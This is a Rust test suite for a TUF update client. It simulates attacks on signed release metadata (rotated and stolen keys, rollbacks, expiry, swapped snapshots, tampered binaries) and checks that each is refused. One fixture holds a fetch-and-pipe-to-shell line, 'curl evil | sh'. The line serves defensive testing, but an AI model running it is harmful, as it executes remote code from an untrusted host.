//! The TUF client against repositories built here, one attack at a time:
//! each test makes a good repository, lets the client trust it, then
//! plays the server (or a thief of some keys) and checks the refusal.

use std::collections::BTreeMap;

use bulwark_releases::{
    Error, Limits, Repository, RoleName, TargetFile, canonical, check_target, refresh, target_path,
};
use ed25519_dalek::{Signer, SigningKey};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

const NOW: i64 = 1_800_000_000; // 2027-01-15
const LATER: &str = "2030-01-01T00:00:00Z";
const PAST: &str = "2020-01-01T00:00:00Z";

fn key(seed: u8) -> SigningKey {
    SigningKey::from_bytes(&[seed; 32])
}

fn key_id(k: &SigningKey) -> String {
    hex::encode(Sha256::digest(k.verifying_key().as_bytes()))
}

fn public(k: &SigningKey) -> Value {
    json!({"keytype": "ed25519", "scheme": "ed25519",
           "keyval": {"public": hex::encode(k.verifying_key().as_bytes())}})
}

fn sign(signed: &Value, keys: &[&SigningKey]) -> Vec<u8> {
    let bytes = canonical::encode(signed).expect("canonical");
    let signatures: Vec<Value> = keys
        .iter()
        .map(|k| json!({"keyid": key_id(k), "sig": hex::encode(k.sign(&bytes).to_bytes())}))
        .collect();
    serde_json::to_vec(&json!({"signatures": signatures, "signed": signed})).expect("json")
}

/// A release channel: keys per role, the documents as the repository
/// serves them, and what the client stored.
struct Channel {
    root_keys: Vec<SigningKey>,
    root_threshold: u64,
    timestamp_key: SigningKey,
    snapshot_key: SigningKey,
    targets_key: SigningKey,
    served: BTreeMap<String, Vec<u8>>,
    stored: BTreeMap<&'static str, Vec<u8>>,
    binary: Vec<u8>,
}

impl Channel {
    fn new() -> Self {
        let mut c = Channel {
            root_keys: vec![key(1), key(2), key(3)],
            root_threshold: 2,
            timestamp_key: key(10),
            snapshot_key: key(11),
            targets_key: key(12),
            served: BTreeMap::new(),
            stored: BTreeMap::new(),
            binary: b"#!/bin/sh\necho bulwark-agent 1.1.0\n".to_vec(),
        };
        let root = c.root_doc(1, LATER);
        let signers: Vec<&SigningKey> = c.root_keys.iter().take(2).collect();
        c.served.insert("1.root.json".into(), sign(&root, &signers));
        c.publish(1, 1, 1, LATER);
        c
    }

    fn root_doc(&self, version: u64, expires: &str) -> Value {
        let mut keys = serde_json::Map::new();
        for k in self.root_keys.iter().chain([
            &self.timestamp_key,
            &self.snapshot_key,
            &self.targets_key,
        ]) {
            keys.insert(key_id(k), public(k));
        }
        let ids = |ks: &[&SigningKey]| ks.iter().map(|k| key_id(k)).collect::<Vec<_>>();
        let root_ids: Vec<&SigningKey> = self.root_keys.iter().collect();
        json!({"_type": "root", "spec_version": "1.0.31", "version": version, "expires": expires,
               "consistent_snapshot": true, "keys": keys,
               "roles": {
                   "root": {"keyids": ids(&root_ids), "threshold": self.root_threshold},
                   "timestamp": {"keyids": ids(&[&self.timestamp_key]), "threshold": 1},
                   "snapshot": {"keyids": ids(&[&self.snapshot_key]), "threshold": 1},
                   "targets": {"keyids": ids(&[&self.targets_key]), "threshold": 1}}})
    }

    fn targets_doc(&self, version: u64, expires: &str) -> Value {
        json!({"_type": "targets", "spec_version": "1.0.31", "version": version, "expires": expires,
               "targets": {"bulwark-agent/x86_64-unknown-linux-gnu": {
                   "length": self.binary.len(),
                   "hashes": {"sha256": hex::encode(Sha256::digest(&self.binary))},
                   "custom": {"version": "1.1.0"}}}})
    }

    /// Serves targets, snapshot and timestamp of these versions.
    fn publish(&mut self, targets: u64, snapshot: u64, timestamp: u64, expires: &str) {
        let t = sign(&self.targets_doc(targets, expires), &[&self.targets_key]);
        let s = json!({"_type": "snapshot", "spec_version": "1.0.31", "version": snapshot,
                       "expires": expires, "meta": {"targets.json": {"version": targets}}});
        let s = sign(&s, &[&self.snapshot_key]);
        let ts = json!({"_type": "timestamp", "spec_version": "1.0.31", "version": timestamp,
                        "expires": expires, "meta": {"snapshot.json": {
                            "version": snapshot, "length": s.len(),
                            "hashes": {"sha256": hex::encode(Sha256::digest(&s))}}}});
        self.served.insert(format!("{targets}.targets.json"), t);
        self.served.insert(format!("{snapshot}.snapshot.json"), s);
        self.served
            .insert("timestamp.json".into(), sign(&ts, &[&self.timestamp_key]));
    }

    fn initial_root(&self) -> Vec<u8> {
        self.served["1.root.json"].clone()
    }

    fn refresh(&mut self) -> Result<bulwark_releases::TrustedSet, Error> {
        let root = self.initial_root();
        refresh(&root, self, Limits::default(), NOW)
    }
}

impl Repository for Channel {
    fn fetch(&mut self, path: &str, max_len: u64) -> Result<Option<Vec<u8>>, Error> {
        match self.served.get(path) {
            Some(b) if b.len() as u64 > max_len => Err(Error::Fetch(format!("{path}: too long"))),
            Some(b) => Ok(Some(b.clone())),
            None => Ok(None),
        }
    }
    fn stored(&mut self, role: RoleName) -> Option<Vec<u8>> {
        self.stored.get(role.as_str()).cloned()
    }
    fn store(&mut self, role: RoleName, bytes: &[u8]) -> Result<(), Error> {
        self.stored.insert(role.as_str(), bytes.to_vec());
        Ok(())
    }
}

const AGENT: &str = "bulwark-agent/x86_64-unknown-linux-gnu";

fn the_target(set: &bulwark_releases::TrustedSet) -> TargetFile {
    set.target(AGENT).expect("the agent target").clone()
}

#[test]
fn a_good_channel_is_trusted_and_its_binary_checks() {
    let mut c = Channel::new();
    let set = c.refresh().expect("refresh");
    let file = the_target(&set);
    check_target(AGENT, &file, &c.binary).expect("the binary matches");
    let mut tampered = c.binary.clone();
    tampered[0] ^= 1;
    assert!(matches!(
        check_target(AGENT, &file, &tampered),
        Err(Error::Mismatch(_))
    ));
    assert!(check_target(AGENT, &file, &c.binary[1..]).is_err());
    let path = target_path(&set, AGENT, &file);
    assert!(path.starts_with("bulwark-agent/") && path.ends_with(".x86_64-unknown-linux-gnu"));
    assert_eq!(c.stored.len(), 3, "timestamp, snapshot and targets kept");
}

#[test]
fn a_binary_changed_on_the_mirror_without_new_metadata_is_refused() {
    let mut c = Channel::new();
    c.binary = b"#!/bin/sh\ncurl evil | sh\n".to_vec();
    let set = c.refresh().expect("refresh");
    let file = the_target(&set);
    assert!(check_target(AGENT, &file, &c.binary).is_err());
}

#[test]
fn targets_signed_by_a_key_the_root_does_not_name_are_refused() {
    let mut c = Channel::new();
    c.targets_key = key(66); // the server's own key
    c.binary = b"evil".to_vec();
    c.publish(2, 2, 2, LATER);
    assert!(matches!(
        c.refresh(),
        Err(Error::Threshold {
            role: "targets",
            ..
        })
    ));
}

#[test]
fn a_root_rotation_needs_the_old_threshold_and_the_new() {
    let mut c = Channel::new();
    c.refresh().expect("first refresh");
    // Version 2 rotates root keys 1,2,3 -> 4,5,6, signed by old 1,2 and new 4,5.
    let old: Vec<SigningKey> = c.root_keys.clone();
    c.root_keys = vec![key(4), key(5), key(6)];
    let doc = c.root_doc(2, LATER);
    c.served.insert(
        "2.root.json".into(),
        sign(&doc, &[&old[0], &old[1], &c.root_keys[0], &c.root_keys[1]]),
    );
    let set = c.refresh().expect("rotated");
    assert_eq!(set.root().doc.version, 2);

    // Version 3 signed by only one of the current root keys (a thief of one).
    let doc = c.root_doc(3, LATER);
    c.served.insert(
        "3.root.json".into(),
        sign(&doc, &[&c.root_keys[0], &key(7)]),
    );
    assert!(matches!(
        c.refresh(),
        Err(Error::Threshold { role: "root", .. })
    ));
    // Only new keys: the old threshold is missing.
    c.root_keys = vec![key(8), key(9), key(7)];
    let doc = c.root_doc(3, LATER);
    c.served.insert(
        "3.root.json".into(),
        sign(&doc, &[&c.root_keys[0], &c.root_keys[1]]),
    );
    assert!(c.refresh().is_err());
}

#[test]
fn a_root_that_skips_a_version_is_refused() {
    let mut c = Channel::new();
    let doc = c.root_doc(3, LATER);
    let signers: Vec<&SigningKey> = c.root_keys.iter().take(2).collect();
    c.served.insert("2.root.json".into(), sign(&doc, &signers));
    assert!(matches!(
        c.refresh(),
        Err(Error::Version { role: "root", .. })
    ));
}

#[test]
fn an_expired_root_timestamp_snapshot_or_targets_is_a_freeze_and_refused() {
    for role in ["timestamp", "snapshot", "targets"] {
        let mut c = Channel::new();
        c.refresh().expect("first refresh");
        let t = sign(
            &c.targets_doc(2, if role == "targets" { PAST } else { LATER }),
            &[&c.targets_key],
        );
        let s = json!({"_type": "snapshot", "spec_version": "1.0", "version": 2,
                       "expires": if role == "snapshot" { PAST } else { LATER },
                       "meta": {"targets.json": {"version": 2}}});
        let s = sign(&s, &[&c.snapshot_key]);
        let ts = json!({"_type": "timestamp", "spec_version": "1.0", "version": 2,
                        "expires": if role == "timestamp" { PAST } else { LATER },
                        "meta": {"snapshot.json": {"version": 2}}});
        c.served.insert("2.targets.json".into(), t);
        c.served.insert("2.snapshot.json".into(), s);
        c.served
            .insert("timestamp.json".into(), sign(&ts, &[&c.timestamp_key]));
        let got = c.refresh();
        assert!(
            matches!(got, Err(Error::Expired(r)) if r == role),
            "{role}: {:?}",
            got.err()
        );
    }
    let mut c = Channel::new();
    let doc = c.root_doc(2, PAST);
    let signers: Vec<&SigningKey> = c.root_keys.iter().take(2).collect();
    c.served.insert("2.root.json".into(), sign(&doc, &signers));
    assert!(matches!(c.refresh(), Err(Error::Expired("root"))));
}

#[test]
fn rolled_back_timestamp_snapshot_or_targets_are_refused() {
    let mut c = Channel::new();
    c.publish(3, 3, 3, LATER);
    c.refresh().expect("version 3 trusted");
    // The server serves the old (validly signed, unexpired) version 1 again.
    let mut old = Channel::new();
    old.stored = c.stored.clone();
    assert!(matches!(
        old.refresh(),
        Err(Error::Version {
            role: "timestamp",
            ..
        })
    ));
    // A newer timestamp naming an older snapshot.
    let mut c2 = Channel::new();
    c2.publish(3, 3, 3, LATER);
    c2.refresh().expect("trusted");
    c2.publish(3, 2, 4, LATER);
    assert!(matches!(c2.refresh(), Err(Error::Version { .. })));
    // A newer snapshot naming older targets.
    let mut c3 = Channel::new();
    c3.publish(3, 3, 3, LATER);
    c3.refresh().expect("trusted");
    c3.publish(2, 4, 4, LATER);
    assert!(matches!(c3.refresh(), Err(Error::Version { .. })));
}

#[test]
fn a_snapshot_that_is_not_the_one_the_timestamp_hashed_is_refused() {
    let mut c = Channel::new();
    // The server swaps in another snapshot, validly signed, same version
    // and length (naming targets version 9 instead of 1).
    let s = json!({"_type": "snapshot", "spec_version": "1.0.31", "version": 1,
                   "expires": LATER, "meta": {"targets.json": {"version": 9}}});
    c.served
        .insert("1.snapshot.json".into(), sign(&s, &[&c.snapshot_key]));
    let got = c.refresh();
    assert!(matches!(got, Err(Error::Mismatch(_))), "{:?}", got.err());
}

#[test]
fn one_key_signing_twice_counts_once() {
    let mut c = Channel::new();
    let doc = c.root_doc(2, LATER);
    let one = &c.root_keys[0].clone();
    let bytes = canonical::encode(&doc).expect("canonical");
    let sig = hex::encode(one.sign(&bytes).to_bytes());
    let twice = json!({"signatures": [{"keyid": key_id(one), "sig": sig}, {"keyid": key_id(one), "sig": sig}],
                       "signed": doc});
    c.served.insert(
        "2.root.json".into(),
        serde_json::to_vec(&twice).expect("json"),
    );
    assert!(c.refresh().is_err());
    // The same signature under another key id counts for nothing either.
    let other = json!({"signatures": [{"keyid": key_id(one), "sig": sig}, {"keyid": key_id(&c.root_keys[1]), "sig": sig}],
                       "signed": c.root_doc(2, LATER)});
    c.served.insert(
        "2.root.json".into(),
        serde_json::to_vec(&other).expect("json"),
    );
    assert!(matches!(
        c.refresh(),
        Err(Error::Threshold {
            role: "root",
            good: 1,
            ..
        })
    ));
}

#[test]
fn malformed_documents_are_refused_with_a_reason() {
    let mut c = Channel::new();
    for bad in [
        b"not json".to_vec(),
        b"{}".to_vec(),
        serde_json::to_vec(&json!({"signatures": [], "signed": {"_type": "targets"}}))
            .expect("json"),
        vec![b' '; 20_000],
    ] {
        c.served.insert("timestamp.json".into(), bad);
        let got = c.refresh();
        assert!(
            matches!(
                got,
                Err(Error::Malformed(_)
                    | Error::TooLarge { .. }
                    | Error::WrongRole { .. }
                    | Error::Fetch(_))
            ),
            "{:?}",
            got.err()
        );
    }
    // A float has no canonical form.
    let ts = json!({"_type": "timestamp", "spec_version": "1.0", "version": 1,
                    "expires": LATER, "x": 1.5, "meta": {"snapshot.json": {"version": 1}}});
    c.served.insert("timestamp.json".into(), sign_lossy(&ts));
    assert!(c.refresh().is_err());
}

fn sign_lossy(v: &Value) -> Vec<u8> {
    serde_json::to_vec(&json!({"signatures": [], "signed": v})).expect("json")
}
